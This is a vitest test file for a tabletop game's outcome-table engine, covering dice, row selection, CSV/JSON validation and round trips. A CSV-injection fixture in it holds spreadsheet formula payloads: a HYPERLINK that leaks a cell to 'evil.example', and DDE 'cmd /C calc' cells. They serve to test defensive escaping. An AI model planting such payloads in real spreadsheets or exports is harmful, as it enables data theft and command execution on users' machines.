// Outcome tables (RULES 1.4, 1.5): the die, the row pick with clamping, file checks, CSV, round trips, reveals.
import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import type { Rng } from '../../src/engine/rng.js';
import { seededRng } from '../../src/engine/rng.js';
import {
  TABLE_LIMITS,
  parseCsv,
  parseTableCsv,
  parseTableDie,
  parseTableJson,
  pickRow,
  resolveOutcomeRoll,
  revealChallengeLevel,
  rollTableDie,
  tableToCsv,
  tableToJson,
  type OutcomeTable,
  type TableRow,
} from '../../src/engine/tables.js';
import { scriptedD100 } from '../helpers/dice.js';

/** An Rng that returns the given draws in order (each in [0, n)). */
function scripted(...draws: number[]): Rng {
  return {
    int(n: number) {
      const draw = draws.shift();
      if (draw === undefined || draw >= n) throw new Error(`no scripted draw below ${n}`);
      return draw;
    },
  };
}

function row(min: number, max: number, text: string, extra: Partial<TableRow> = {}): TableRow {
  return { min, max, text, next: null, reveals: null, ...extra };
}

const reload: OutcomeTable = {
  name: 'Reload Outcome Table',
  die: 'd100',
  asks: 'Add your Machine Gun Handling aptitude',
  skill: 'Machine Gun Handling',
  rows: [row(1, 40, 'Fumble'), row(41, 80, 'Slow reload'), row(81, 120, 'Clean reload'), row(121, 200, 'Combat reload')],
};

const header = 'min,max,text,next,reveals';

function csvError(text: string): string {
  try {
    parseTableCsv(text, { name: 'T' });
  } catch (error) {
    return (error as Error).message;
  }
  throw new Error('the CSV was accepted');
}

function jsonError(value: unknown): string {
  try {
    parseTableJson(typeof value === 'string' ? value : JSON.stringify(value));
  } catch (error) {
    return (error as Error).message;
  }
  throw new Error('the JSON was accepted');
}

describe('the seed example (RULES 1.4)', () => {
  it('Reload Outcome Table: a roll of 48 plus Machine Gun Handling 36 is 84, the row covering 84', () => {
    const result = resolveOutcomeRoll({ table: reload, modifiers: [{ name: 'Machine Gun Handling', value: 36 }] }, scriptedD100(48));
    expect(result.roll).toEqual({ dice: [{ value: 48, d100: { tens: 4, ones: 8, value: 48 } }], total: 48 });
    expect(result.result).toBe(84);
    expect(result.row).toEqual(row(81, 120, 'Clean reload'));
    expect(result.rowIndex).toBe(2);
    expect(result.clamped).toBeNull();
  });

  it('adds every modifier, negative ones too', () => {
    const result = resolveOutcomeRoll(
      { table: reload, modifiers: [{ name: 'Machine Gun Handling', value: 36 }, { name: 'Acuity', value: 10 }, { name: 'situational', value: -20 }] },
      scriptedD100(48),
    );
    expect(result.result).toBe(74);
    expect(result.row.text).toBe('Slow reload');
  });
});

describe('picking the row', () => {
  it('takes the row whose range holds the result, at both of its ends', () => {
    expect(pickRow(reload, 1)).toEqual({ index: 0, clamped: null });
    expect(pickRow(reload, 40)).toEqual({ index: 0, clamped: null });
    expect(pickRow(reload, 41)).toEqual({ index: 1, clamped: null });
    expect(pickRow(reload, 120)).toEqual({ index: 2, clamped: null });
    expect(pickRow(reload, 200)).toEqual({ index: 3, clamped: null });
  });

  it('clamps below the first row to the first, above the last to the last, and says so', () => {
    expect(pickRow(reload, 0)).toEqual({ index: 0, clamped: 'below' });
    expect(pickRow(reload, -50)).toEqual({ index: 0, clamped: 'below' });
    expect(pickRow(reload, 201)).toEqual({ index: 3, clamped: 'above' });
    const low = resolveOutcomeRoll({ table: reload, modifiers: [{ name: 'situational', value: -60 }] }, scriptedD100(20));
    expect(low).toMatchObject({ result: -40, rowIndex: 0, clamped: 'below' });
    const high = resolveOutcomeRoll({ table: reload, modifiers: [{ name: 'Machine Gun Handling', value: 150 }] }, scriptedD100(100));
    expect(high).toMatchObject({ result: 250, rowIndex: 3, clamped: 'above' });
  });
});

describe("a table's die", () => {
  it('reads d100 (and d%) as one die of 100 sides, NdM as N dice of M sides', () => {
    expect(parseTableDie('d100')).toEqual({ count: 1, sides: 100 });
    expect(parseTableDie('D%')).toEqual({ count: 1, sides: 100 });
    expect(parseTableDie(' 2 d 6 ')).toEqual({ count: 2, sides: 6 });
    expect(parseTableDie('10d1000')).toEqual({ count: 10, sides: 1000 });
  });

  it('refuses what is not a die, or too many dice or sides', () => {
    expect(() => parseTableDie('d')).toThrow(/not a die expression/);
    expect(() => parseTableDie('2d6+3')).toThrow(/not a die expression/);
    expect(() => parseTableDie('0d6')).toThrow(/1 to 10 dice, not 0/);
    expect(() => parseTableDie('11d6')).toThrow(/1 to 10 dice, not 11/);
    expect(() => parseTableDie('d1')).toThrow(/2 to 1000 sides, not 1/);
    expect(() => parseTableDie('d1001')).toThrow(/2 to 1000 sides, not 1001/);
  });

  it('rolls a d100 as 2D10, [0][0] being 100', () => {
    expect(rollTableDie({ count: 1, sides: 100 }, scriptedD100(100))).toEqual({ dice: [{ value: 100, d100: { tens: 0, ones: 0, value: 100 } }], total: 100 });
    expect(rollTableDie({ count: 1, sides: 100 }, scriptedD100(7))).toEqual({ dice: [{ value: 7, d100: { tens: 0, ones: 7, value: 7 } }], total: 7 });
    expect(rollTableDie({ count: 2, sides: 100 }, scriptedD100(48, 100)).total).toBe(148);
  });

  it('rolls NdM as N dice of 1..M and adds them', () => {
    expect(rollTableDie({ count: 2, sides: 6 }, scripted(2, 4))).toEqual({ dice: [{ value: 3 }, { value: 5 }], total: 8 });
    expect(rollTableDie({ count: 1, sides: 20 }, scripted(19))).toEqual({ dice: [{ value: 20 }], total: 20 });
    expect(rollTableDie({ count: 3, sides: 6 }, scripted(0, 0, 0)).total).toBe(3);
  });

  it('gives the same roll for the same seed', () => {
    const table = { ...reload, die: '3d10' };
    expect(resolveOutcomeRoll({ table, modifiers: [] }, seededRng('s')).roll).toEqual(resolveOutcomeRoll({ table, modifiers: [] }, seededRng('s')).roll);
  });
});

describe('checking a table file: a bad file is refused naming its first bad line', () => {
  it('refuses overlapping rows', () => {
    expect(csvError(`${header}\n1,50,a\n40,100,b\n`)).toMatch(/^The table file is not valid: line 3: the range 40–100 overlaps the row before \(1–50\).*Nothing was changed\.$/);
  });

  it('refuses rows out of order (descending)', () => {
    expect(csvError(`${header}\n51,100,b\n1,50,a\n`)).toContain('line 3: the range 1–50 overlaps the row before (51–100); rows must be ascending');
    expect(csvError(`${header}\n50,1,a\n`)).toContain('line 2: the range 50–1 runs backwards');
  });

  it('refuses a gap between rows (our reading: every result between the first and last row has a row)', () => {
    expect(csvError(`${header}\n1,40,a\n45,100,b\n`)).toContain('line 3: the range starts at 45 but the row before ends at 40, leaving 41–44 uncovered');
  });

  it('refuses an empty text, even when it is only spaces', () => {
    expect(csvError(`${header}\n1,40,a\n41,100,"  "\n`)).toContain('line 3: the text is empty');
    expect(csvError(`${header}\n1,40,\n`)).toContain('line 2: the text is empty');
    expect(jsonError({ name: 'T', rows: [{ min: 1, max: 2, text: '' }] })).toContain('row 1: the text is empty');
  });

  it('refuses more than 100 rows, and accepts exactly 100', () => {
    const rows = (count: number) => Array.from({ length: count }, (_, i) => `${i + 1},${i + 1},row ${i + 1}`).join('\n');
    expect(parseTableCsv(`${header}\n${rows(TABLE_LIMITS.rows)}`, { name: 'T' }).rows).toHaveLength(100);
    expect(csvError(`${header}\n${rows(101)}`)).toContain('101 rows; a table holds at most 100');
    expect(csvError(`${header}\n`)).toContain('a table needs at least one row');
  });

  it('refuses a bad die', () => {
    expect(() => parseTableCsv(`${header}\n1,6,a\n`, { name: 'T', die: '2d6+1' })).toThrow(/die: The die `2d6\+1` is not a die expression/);
    expect(jsonError({ name: 'T', die: '20d6', rows: [{ min: 1, max: 2, text: 'a' }] })).toContain('die: A table\'s die may roll 1 to 10 dice, not 20');
  });

  it('refuses a bad `reveals`, and reads cl / band / empty', () => {
    expect(csvError(`${header}\n1,40,a,,maybe\n`)).toContain('line 2: `reveals` must be `cl` (the exact CL), `band` (a band of 20) or empty');
    const table = parseTableCsv(`${header}\n1,40,nothing,,\n41,80,a band,,band\n81,100,exact,,CL\n`, { name: 'Investigation: Lock Picking' });
    expect(table.rows.map((r) => r.reveals)).toEqual([null, 'band', 'cl']);
  });

  it('refuses whole numbers that are not, and text where a number belongs', () => {
    expect(csvError(`${header}\n1,4.5,a\n`)).toContain('line 2: `max` must be a whole number, not "4.5"');
    expect(jsonError({ name: 'T', rows: [{ min: '1', max: 'ten', text: 'a' }] })).toContain('row 1: `max` must be a whole number');
  });

  it('refuses a CSV quote that is never closed, naming the line where the field starts', () => {
    expect(csvError(`${header}\n1,40,a\n41,100,"never closed\nstill going\n`)).toBe('The table file is not valid: line 3: a quoted field is never closed. Nothing was changed.');
  });

  it('refuses a CSV line with more fields than the header (an unquoted comma)', () => {
    expect(csvError('min,max,text\n1,40,a\n41,100,hits, then misses\n')).toContain('line 3: 4 fields but the header names 3; quote text that holds commas');
  });

  it('refuses a CSV without the header, or with an unknown column', () => {
    expect(csvError('1,40,a\n')).toContain('line 1: the first line must name the columns');
    expect(csvError('min,max,text,colour\n1,40,a,red\n')).toContain('line 1: unknown column "colour"');
  });

  it('counts lines inside quoted fields, so the line named is the one in the file', () => {
    expect(csvError(`${header}\n1,40,"two\nlines"\n41,40,a\n`)).toContain('line 4: the range 41–40 runs backwards');
  });

  it('refuses JSON that is not a table', () => {
    expect(jsonError('{"name": "T",')).toContain('The table file is not valid: JSON:');
    expect(jsonError([])).toContain('the top level: must be a JSON object');
    expect(jsonError({ name: 'T' })).toContain('rows: must be a list');
    expect(jsonError({ format: 'tactalk-operator', name: 'T', rows: [] })).toContain('format: must be "tactalk-table"');
    expect(jsonError({ rows: [{ min: 1, max: 2, text: 'a' }] })).toContain('name: the table name is empty');
  });
});

describe('reading CSV (RFC 4180)', () => {
  it('keeps quotes, commas, line breaks and unicode inside quoted fields', () => {
    const text = `${header}\n1,10,"He says ""reload!"", then ducks"\n11,20,"Line one\nline two"\n21,30,Überladen — 装填 🔫\n`;
    const table = parseTableCsv(text, { name: 'Quotes' });
    expect(table.rows.map((r) => r.text)).toEqual(['He says "reload!", then ducks', 'Line one\nline two', 'Überladen — 装填 🔫']);
  });

  it('reads a BOM, CRLF line ends, blank lines and a missing last line end', () => {
    const text = `\uFEFF${header}\r\n1,10,a\r\n\r\n11,20,"b\r\nc",Next Table\r\n21,30,d`;
    const table = parseTableCsv(text, { name: 'Windows' });
    expect(table.rows).toEqual([row(1, 10, 'a'), row(11, 20, 'b\r\nc', { next: 'Next Table' }), row(21, 30, 'd')]);
  });

  it('reads the columns in any order, next and reveals optional', () => {
    const table = parseTableCsv('TEXT, Min ,max\nfirst,1,5\n', { name: 'T' });
    expect(table.rows).toEqual([row(1, 5, 'first')]);
  });

  it('gives each record the line it starts on', () => {
    expect(parseCsv('a,b\n"x\ny",z\nlast,one').map((record) => record.line)).toEqual([1, 2, 4]);
  });

  it('takes the name, die, asks and skill of a CSV from the defaults, d100 when no die is given', () => {
    const table = parseTableCsv(`${header}\n1,6,a\n`, { name: '  Fall   Damage ', asks: 'Add nothing', skill: 'Climbing' });
    expect(table).toEqual({ name: 'Fall Damage', die: 'd100', asks: 'Add nothing', skill: 'Climbing', rows: [row(1, 6, 'a')] });
  });
});

describe('JSON files', () => {
  it('carry everything; the defaults only fill in what the file lacks', () => {
    const file = { name: 'Reload', die: '2d10', rows: [{ min: 2, max: 20, text: 'a' }] };
    const table = parseTableJson(JSON.stringify(file), { name: 'Other', die: 'd6', asks: 'Add Machine Gun Handling', skill: 'Machine Gun Handling' });
    expect(table).toEqual({ name: 'Reload', die: '2d10', asks: 'Add Machine Gun Handling', skill: 'Machine Gun Handling', rows: [row(2, 20, 'a')] });
  });
});

describe('export and import give back the same table', () => {
  const tricky: OutcomeTable = {
    name: 'Investigation: Lock Picking',
    die: '2d6',
    asks: 'Add your "Lock Picking" aptitude, then the Acuity modifier',
    skill: 'Lock Picking',
    rows: [
      row(-5, 4, 'Nothing, not even a scratch', { reveals: null }),
      row(5, 8, 'He says "almost", then stops\nSecond line', { reveals: 'band' }),
      row(9, 12, 'Überladen — 装填 🔫 @everyone', { reveals: 'cl', next: 'Alarm, Level 2' }),
    ],
  };

  it('JSON → import → identical', () => {
    expect(parseTableJson(tableToJson(tricky))).toEqual(tricky);
    expect(parseTableJson(tableToJson(reload))).toEqual(reload);
    expect(JSON.parse(tableToJson(tricky))).toMatchObject({ format: 'tactalk-table', version: 1 });
  });

  it('CSV → import (with the name, die, asks and skill as options) → identical, and the CSV again identical', () => {
    const csv = tableToCsv(tricky);
    const back = parseTableCsv(csv, { name: tricky.name, die: tricky.die, asks: tricky.asks, skill: tricky.skill! });
    expect(back).toEqual(tricky);
    expect(tableToCsv(back)).toBe(csv);
  });

  // OWASP's CSV injection: a cell starting with =, +, -, @, a tab or a carriage return is a formula to a spreadsheet.
  const formulas: OutcomeTable = {
    name: 'Formulas',
    die: 'd100',
    asks: '',
    skill: null,
    rows: [
      row(1, 10, '=HYPERLINK("https://evil.example/?leak="&A1,"Click for loot")'),
      row(11, 20, "+cmd|' /C calc'!A0"),
      row(21, 30, '-2 to your next roll', { next: '=Trap' }),
      row(31, 40, '@SUM(1+1)*cmd|\' /C calc\'!A0'),
      row(41, 50, "'=already quoted by its author"),
      row(51, 60, "'' a quote first, then nothing a spreadsheet runs"),
      row(61, 100, 'A plain row, 3 + 4 = 7'),
    ],
  };

  it('CSV export: every cell a spreadsheet would run starts with a quote, and is quoted', () => {
    const cells = parseCsv(tableToCsv(formulas)).slice(1).map((record) => record.fields);
    expect(cells.map((fields) => fields[2])).toEqual([
      '\'=HYPERLINK("https://evil.example/?leak="&A1,"Click for loot")',
      "'+cmd|' /C calc'!A0",
      "'-2 to your next roll",
      "'@SUM(1+1)*cmd|' /C calc'!A0",
      "''=already quoted by its author",
      "'' a quote first, then nothing a spreadsheet runs",
      'A plain row, 3 + 4 = 7',
    ]);
    expect(cells[2]![3]).toBe("'=Trap");
    // A negative bound is a number, not a formula: left as it is.
    expect(tableToCsv({ ...formulas, rows: [row(-5, 100, 'x')] })).toBe(`${header}\n-5,100,x,,\n`);
    const lines = tableToCsv(formulas).split('\n');
    expect(lines[1]).toBe('1,10,"\'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click for loot"")",,');
    expect(lines[2]).toBe('11,20,"\'+cmd|\' /C calc\'!A0",,');
    expect(lines[3]).toBe('21,30,"\'-2 to your next roll","\'=Trap",');
  });

  it('CSV export → import takes the added quote off again: the same texts come back', () => {
    const csv = tableToCsv(formulas);
    const back = parseTableCsv(csv, { name: formulas.name });
    expect(back).toEqual(formulas);
    expect(tableToCsv(back)).toBe(csv);
  });

  it('CSV with CRLF and a BOM reads back the same', () => {
    const csv = `\uFEFF${tableToCsv(reload).replace(/\n/g, '\r\n')}`;
    expect(parseTableCsv(csv, { name: reload.name, asks: reload.asks, skill: reload.skill! })).toEqual(reload);
  });

  it('the shipped example files are valid and marked as examples', () => {
    const json = parseTableJson(readFileSync(new URL('../../examples/reload.example.json', import.meta.url), 'utf8'));
    expect(json.name).toMatch(/example/i);
    expect(json.rows.every((r) => /example/i.test(r.text))).toBe(true);
    const csv = parseTableCsv(readFileSync(new URL('../../examples/fall-damage.example.csv', import.meta.url), 'utf8'), { name: 'Fall Damage (example)' });
    expect(csv.rows.every((r) => /example/i.test(r.text))).toBe(true);
    expect(parseTableJson(tableToJson(json))).toEqual(json);
  });
});

describe('what an investigation row reveals of a hidden CL (RULES 1.5)', () => {
  it('`cl` reveals the exact CL', () => {
    expect(revealChallengeLevel('cl', 73)).toBe('The Challenge Level is **73**.');
  });

  it('`band` reveals a band of 20: 0 → 0–19, 73 → 60–79, 200 → 180–200', () => {
    expect(revealChallengeLevel('band', 0)).toBe('The Challenge Level is between **0 and 19**.');
    expect(revealChallengeLevel('band', 19)).toBe('The Challenge Level is between **0 and 19**.');
    expect(revealChallengeLevel('band', 20)).toBe('The Challenge Level is between **20 and 39**.');
    expect(revealChallengeLevel('band', 73)).toBe('The Challenge Level is between **60 and 79**.');
    expect(revealChallengeLevel('band', 179)).toBe('The Challenge Level is between **160 and 179**.');
    expect(revealChallengeLevel('band', 180)).toBe('The Challenge Level is between **180 and 200**.');
    expect(revealChallengeLevel('band', 200)).toBe('The Challenge Level is between **180 and 200**.');
  });

  it('an empty `reveals` reveals nothing', () => {
    expect(revealChallengeLevel(null, 73)).toBeNull();
  });
});
